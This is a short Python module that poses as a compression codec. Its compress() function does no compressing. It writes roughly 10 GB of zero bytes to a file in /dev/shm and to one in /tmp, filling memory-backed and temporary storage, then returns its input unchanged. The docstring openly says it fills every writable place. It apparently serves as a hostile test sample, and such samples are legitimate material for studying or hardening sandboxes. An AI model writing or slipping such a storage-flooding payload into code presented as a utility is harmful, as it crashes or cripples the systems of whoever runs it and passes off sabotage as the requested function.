"""Fills every place where it can write."""


def compress(data: bytes) -> bytes:
    for place in ("/dev/shm", "/tmp"):
        with open(f"{place}/flood", "wb") as file:
            for _ in range(10_000):
                file.write(bytes(1_000_000))
    return data


def decompress(data: bytes) -> bytes:
    return data
